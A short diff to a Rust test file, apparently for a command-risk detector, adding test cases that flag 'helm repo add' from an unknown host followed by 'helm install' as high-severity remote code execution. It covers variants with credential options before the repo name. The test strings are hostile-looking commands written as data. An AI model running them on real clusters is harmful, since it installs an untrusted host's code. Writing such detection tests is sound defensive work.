@@ -221,6 +221,9 @@ fn a_chart_from_a_repository_added_on_an_unknown_host_is_that_hosts_code() {
             "helm repo add r https://dl.marten-relay.net && helm install x r/x",
             "helm repo add r https://dl.marten-relay.net; helm upgrade --install x r/x -n prod",
             "helm repo add --force-update r https://dl.marten-relay.net/charts && helm install r/x --generate-name",
+            // Found reviewing the rule: an option's value before the name.
+            "helm repo add --username u --password p r https://dl.marten-relay.net && helm install x r/x",
+            "helm repo add --username \"$U\" r https://dl.marten-relay.net && helm install x r/x",
         ],
         Category::RemoteCodeExec,
         Severity::High,
